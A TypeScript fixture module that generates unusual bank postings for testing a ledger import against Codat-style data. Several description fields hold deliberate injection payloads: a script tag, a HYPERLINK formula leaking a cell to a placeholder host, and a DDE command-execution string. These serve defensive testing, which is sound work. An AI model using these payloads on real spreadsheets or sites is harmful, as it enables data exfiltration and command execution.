import { dayMs, localDay } from "../dates";
import type { AccountRole, PostingInput } from "./ledger";
import { oddDates } from "./odd-dates";

type Oddity = { amountMinor?: number; isOnlyAuthorised?: boolean; overrides: Record<string, unknown> };

const rightToLeft = "\u202E";
const usualMinor = -123_400;

/** What Codat's documents allow and few programs expect. An `undefined` is left out of the answer. */
const oddities: readonly Oddity[] = [
  { amountMinor: 123_456, overrides: { description: "FOUR DECIMALS" } },
  { amountMinor: -1, overrides: { description: "A HUNDREDTH OF A PENNY" } },
  { amountMinor: 98_765_432_101, overrides: { description: "NEARLY TEN MILLION" } },
  { isOnlyAuthorised: true, overrides: { description: "NOT POSTED YET", postedDate: undefined } },
  { overrides: { description: "NO DATE AT ALL", postedDate: undefined, authorizedDate: undefined } },
  { overrides: { description: null } },
  { overrides: { description: undefined, merchantName: null } },
  { overrides: { description: "" } },
  { overrides: { description: "<b>bold</b><script>alert('sandbox')</script>" } },
  { overrides: { description: '=HYPERLINK("http://sandbox.example/?leak="&A1,"Refund")' } },
  { overrides: { description: "+1" } },
  { overrides: { description: "-1" } },
  { overrides: { description: "@SUM(1+1)*cmd|' /C calc'!A0" } },
  { overrides: { description: "\t=1+1" } },
  { overrides: { description: 'He said "pay, now";\r\nand on a second line', merchantName: "O'Brien, Sons & Co" } },
  { overrides: { description: `INVOICE ${rightToLeft}0001 DIAP`, merchantName: `${rightToLeft}knaB` } },
  { overrides: { description: "☕️ 👩‍👩‍👧 🇬🇧 Ünïcødé 漢字 שלום", merchantName: "🦄" } },
  { overrides: { description: "FIVE HUNDRED ".repeat(39).slice(0, 500) } },
  { overrides: { description: "CATEGORY WITHOUT A NAME", transactionCategoryRef: { id: "category-4711" } } },
  { overrides: { description: "CATEGORY NAMED NULL", transactionCategoryRef: { id: "category-4712", name: null } } },
  { overrides: { description: "UNKNOWN CODE", code: "NotSupported", transactionCategoryRef: undefined } },
];

/** The odd postings of a history, by day. */
export function oddPostings({ fromDay, toDay }: { fromDay: number; toDay: number }): Map<number, PostingInput[]> {
  const byDay = new Map<number, PostingInput[]>();
  const add = (role: AccountRole, day: number, amountMinor: number, overrides: Record<string, unknown>) => {
    const posting = { role, day, amountMinor, description: "", merchantName: null, categoryId: "costs", code: "Other" };
    byDay.set(day, [...(byDay.get(day) ?? []), { ...posting, overrides }]);
  };
  for (const [index, { amountMinor = usualMinor, isOnlyAuthorised, overrides }] of oddities.entries()) {
    const day = toDay - (index * 3 + 1) * dayMs;
    const lateThatDay = localDay(day).replace("00:00:00", "23:59:59.9999999");
    add("nameless", day, amountMinor, isOnlyAuthorised ? { ...overrides, authorizedDate: lateThatDay } : overrides);
  }
  for (const { day, postedDate } of oddDates({ fromDay, toDay }))
    add("nameless", day, usualMinor, { description: `POSTED ${postedDate}`, postedDate, authorizedDate: postedDate });
  for (let day = toDay; day > toDay - 360 * dayMs; day -= 30 * dayMs) {
    add("yen", day, -1_980, { description: "SHINKANSEN" });
    add("dinar", day, 12_345, { description: "GULF TRADING" });
  }
  return byDay;
}
